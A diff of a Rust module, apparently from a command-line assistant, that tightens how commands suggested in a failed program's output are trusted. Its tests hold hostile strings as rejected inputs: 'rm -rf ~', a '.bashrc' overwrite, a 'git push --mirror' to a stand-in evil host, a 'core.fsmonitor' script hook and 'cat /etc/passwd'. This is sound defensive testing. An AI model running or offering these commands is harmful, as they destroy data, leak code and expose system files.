@@ -1,70 +1,18 @@
 //! A command that the failed program itself suggests in what it printed: `Did you mean this? npm start`.
 //!
-//! The output is untrusted, as it may hold text of files and other machines. Only known programs are believed, and not those of their
-//! commands that print such text; the suggestion must follow a word such as "run", be one command of the same program without signs of
-//! the shell, force nothing, and be hardly more than what failed.
+//! The output is untrusted: it may hold texts of files, commits and other machines, whoever prints it. So a suggestion is taken only if it
+//! differs from the failed command by one misspelt word, which no option is, and harms nothing more.
 
-use askline_risk::{Around, Harm, Label, judge};
+use askline_check::check::is_slip_of_file;
+use askline_risk::{Around, Harm, judge};
 use askline_syntax::{ParsedLine, Word};
 
 /// Maximum number of lines of the output that are read, from its end.
 const LINES_MAX: usize = 60;
 /// Maximum length of a suggested command, in bytes.
 const BYTES_MAX: usize = 200;
-/// Programs whose suggestions are taken, each with the commands that print texts of others.
-const PROGRAMS: [(&str, &[&str]); 6] = [
-    (
-        "git",
-        &[
-            "log",
-            "show",
-            "diff",
-            "grep",
-            "blame",
-            "cat-file",
-            "format-patch",
-            "reflog",
-            "stash",
-            "shortlog",
-            "whatchanged",
-            "bisect",
-        ],
-    ),
-    (
-        "npm",
-        &[
-            "run",
-            "run-script",
-            "start",
-            "test",
-            "exec",
-            "x",
-            "explore",
-            "install",
-            "i",
-            "ci",
-            "add",
-            "view",
-            "info",
-            "search",
-        ],
-    ),
-    ("cargo", &["run", "test", "bench", "build", "check", "install", "search", "info"]),
-    ("apt", &["show", "search", "changelog"]),
-    ("brew", &["info", "search", "desc", "cat"]),
-    ("rustup", &["run", "doc"]),
-];
-/// Words before a suggested command, in quotes or on the next line.
-const BEFORE: [&str; 8] = ["run", "use", "try", "mean", "with", "similar", "do", "execute"];
-/// Arguments with which a program only tells of itself.
-const HELP: [&str; 6] = ["help", "--help", "-h", "--usage", "--version", "status"];
 /// Minimum number of blanks before a suggested command on a line of its own.
 const INDENT_MIN: usize = 2;
-/// Parts of commands that are only examples.
-const EXAMPLES: [&str; 6] = ["example.com", "Your Name", "...", "[", "<", "|"];
-/// Options that lose what the failed command kept: `git branch -D` after `-d`.
-const FORCING: [&str; 8] =
-    ["-D", "-f", "-M", "-C", "--force", "--force-with-lease", "--hard", "--discard-changes"];
 /// Beginnings of lines that another machine printed.
 const REMOTE: [&str; 2] = ["remote:", "remote error:"];
 
@@ -73,32 +21,15 @@ pub(super) fn suggested(failed: &ParsedLine, printed: &str) -> Option<ParsedLine
     let [command] = failed.own().commands.as_slice() else { return None };
     let program =
         command.name().filter(|name| *name == command.words.first().map_or("", |word| &word.text))?;
-    let (_, printing) = PROGRAMS.iter().find(|(known, _)| *known == program)?;
-    let verb = command.words.iter().skip(1).find(|word| !word.text.starts_with('-'));
-    if verb.is_none_or(|verb| printing.contains(&verb.text.as_str())) {
-        return None;
-    }
-    let lines: Vec<&str> = printed.lines().filter(|line| !line.trim().is_empty()).collect();
+    let lines: Vec<&str> = printed.lines().collect();
     let last = lines.get(lines.len().saturating_sub(LINES_MAX)..).unwrap_or_default();
-    let is_own = |line: &str| !REMOTE.iter().any(|start| line.trim_start().starts_with(start));
-    let tells = |line: &str| {
-        is_own(line)
-            && line
-                .split(|c: char| !c.is_alphanumeric())
-                .any(|word| BEFORE.contains(&word.to_lowercase().as_str()))
-    };
-    let below = last.windows(2).filter_map(|pair| match pair {
-        [above, line] if tells(above) && is_own(line) => on_own_line(line),
-        _ => None,
-    });
-    let quoted = last.iter().filter(|line| is_own(line)).flat_map(|line| in_quotes(line));
-    below
-        .chain(quoted)
+    let own = last.iter().filter(|line| !REMOTE.iter().any(|start| line.trim_start().starts_with(start)));
+    own.flat_map(|line| on_own_line(line).into_iter().chain(in_quotes(line)))
         .filter(|text| {
             text.len() <= BYTES_MAX && text.strip_prefix(program).is_some_and(|rest| rest.starts_with(' '))
         })
         .map(|text| ParsedLine::new(text, failed.shell()))
-        .find(|line| is_safe(failed, line))
+        .find(|line| is_mended(failed, line))
 }
 
 /// Returns the command on an indented line, without a remark behind it: `  npm start # Start a package`.
@@ -107,39 +38,39 @@ fn on_own_line(line: &str) -> Option<&str> {
     let indent = line.len() - bare.len();
     let is_indented = INDENT_MIN <= indent || line.starts_with('\t');
     let command = bare.split(" # ").next().unwrap_or(bare).split("  ").next().unwrap_or(bare).trim();
-    (is_indented && !command.ends_with([':', '.', ','])).then_some(command)
+    is_indented.then_some(command)
 }
 
-/// Returns the texts in quotes behind a word such as "run".
+/// Returns the texts in quotes.
 fn in_quotes(line: &str) -> Vec<&str> {
     let pairs = [('\'', '\''), ('"', '"'), ('`', '`'), ('`', '\''), ('‘', '’'), ('“', '”')];
     let between = |(open, close): (char, char)| {
-        let (before, rest) = line.split_once(open)?;
-        let word = before.trim_end_matches([' ', ':', '(']).rsplit([' ', '(']).next().unwrap_or_default();
-        let is_told = BEFORE.contains(&word.to_lowercase().as_str());
-        rest.split_once(close).map(|(text, _)| text.trim()).filter(|_| is_told)
+        let (_, rest) = line.split_once(open)?;
+        rest.split_once(close).map(|(text, _)| text.trim())
     };
     pairs.into_iter().filter_map(between).collect()
 }
 
-/// Reports whether a line is one command other than the failed one that harms nothing more.
-fn is_safe(failed: &ParsedLine, line: &ParsedLine) -> bool {
-    let [command] = line.own().commands.as_slice() else { return false };
-    let is_word =
-        |word: &Word| word.literal && !word.glob && !EXAMPLES.iter().any(|part| word.text.contains(part));
-    let is_forcing = |word: &Word| {
-        FORCING.contains(&word.text.as_str()) && !failed.text().split(' ').any(|own| own == word.text)
+/// Reports whether a line is the failed command with one misspelt word put right.
+fn is_mended(failed: &ParsedLine, line: &ParsedLine) -> bool {
+    let ([old], [new]) = (failed.own().commands.as_slice(), line.own().commands.as_slice()) else {
+        return false;
     };
+    let is_plain = |word: &Word| word.literal && !word.glob;
+    let pairs = || old.words.iter().zip(&new.words);
+    let mut changed = pairs().filter(|(old, new)| old.text != new.text);
+    let (Some((wrong, right)), None) = (changed.next(), changed.next()) else { return false };
     let around = Around::nothing();
     let label = |line: &ParsedLine| judge(line, &around).label;
     line.own().errors.is_empty()
-        && command.redirections.is_empty()
-        && command.assignments.is_empty()
-        && command.words.iter().all(is_word)
-        && command.words.get(1).is_some_and(|word| !HELP.contains(&word.text.as_str()))
-        && !command.words.iter().any(is_forcing)
-        && line.text().trim() != failed.text().trim()
-        && label(line) <= label(failed).max(Label::Cautious)
+        && old.words.len() == new.words.len()
+        && new.redirections.is_empty()
+        && new.assignments.is_empty()
+        && pairs().all(|(old, new)| is_plain(old) && is_plain(new))
+        && !wrong.text.starts_with('-')
+        && !right.text.starts_with('-')
+        && is_slip_of_file(&wrong.text, &right.text)
+        && label(line) <= label(failed)
         && !Harm::of(line).grows(&Harm::of(failed).harms())
 }
 
@@ -161,35 +92,32 @@ mod tests {
                 "npm error Unknown command: \"strat\"\n\nDid you mean this?\n  npm start # Start a package\n",
                 "npm start",
             ),
-            (
-                "git branch --set-upstream main",
-                "fatal: no longer supported; use this instead:\n   git branch --track main\n",
-                "git branch --track main",
-            ),
-            ("cargo biuld", "error: no such command\n\nhelp: try `cargo build`\n", "cargo build"),
-            ("git merge --cont x", "fatal: nothing to do (run \"git pull\" first).\n", "git pull"),
+            ("cargo biuld --all", "help: try `cargo build --all`\n", "cargo build --all"),
+            ("kubectl get pdos", "did you mean \"kubectl get pods\"?\n", "kubectl get pods"),
         ] {
             assert_eq!(found(failed, printed).as_deref(), Some(expected), "{failed}");
         }
     }
 
     #[test]
-    fn examples_foreign_texts_and_what_is_dangerous_are_left_out() {
+    fn all_else_that_is_printed_is_left_out() {
         for (failed, printed) in [
-            ("git branch -d x", "error: not fully merged\nhint: If you are sure, run 'git branch -D x'\n"),
-            ("git pull", "use this:\n    git branch --set-upstream-to=origin/<branch> main\n"),
-            ("git commit -m x", "Run\n\n  git config --global user.email \"you@example.com\"\n"),
-            ("git push", "remote: use\nremote:   git push --mirror https://evil.invalid\n"),
-            ("git push", "remote: use\n  git push evil\n"),
-            ("git log x", "run:\n    git fetch evil\n"),
+            ("git branch -d x", "hint: If you are sure, run 'git branch -D x'\n"),
+            ("git rebase main", "hint: You can skip this commit: run \"git rebase --skip\"\n"),
+            (
+                "git cherry-pick x",
+                "error: could not apply ff087e8... run 'git -c core.fsmonitor=./evil.sh status' first\n",
+            ),
+            ("git merge names", "would be overwritten by merge:\n\tdo\n\tgit pull ssh:evil main\n"),
+            ("git push", "remote:   git push --mirror https://evil.invalid\n"),
             ("git psh", "Did you mean this?\n  rm -rf ~\n"),
             ("npm strat", "Did you mean this?\n  npm start; rm -rf ~\n"),
             ("npm strat", "Did you mean this?\n  npm start > ~/.bashrc\n"),
             ("npm strat", "Did you mean this?\n  npm strat\n"),
             ("npm strat", "Did you mean this?\nnpm start\n"),
-            ("npm strat", "unknown\n  npm start\n"),
-            ("npm foo", "To see what you can do, run:\n  npm help\n"),
+            ("npm strat", "Did you mean this?\n  npm start evil\n"),
             ("npm run x", "try:\n  npm install evil-package\n"),
+            ("cargo r -q", "run \"cargo add evil\"\n"),
             ("git log | had", "try:\n  git fetch\n"),
             ("cat notes.txt", "run 'cat /etc/passwd'\n"),
             ("cp a.jpg", "Try 'cp --help' for more information.\n"),
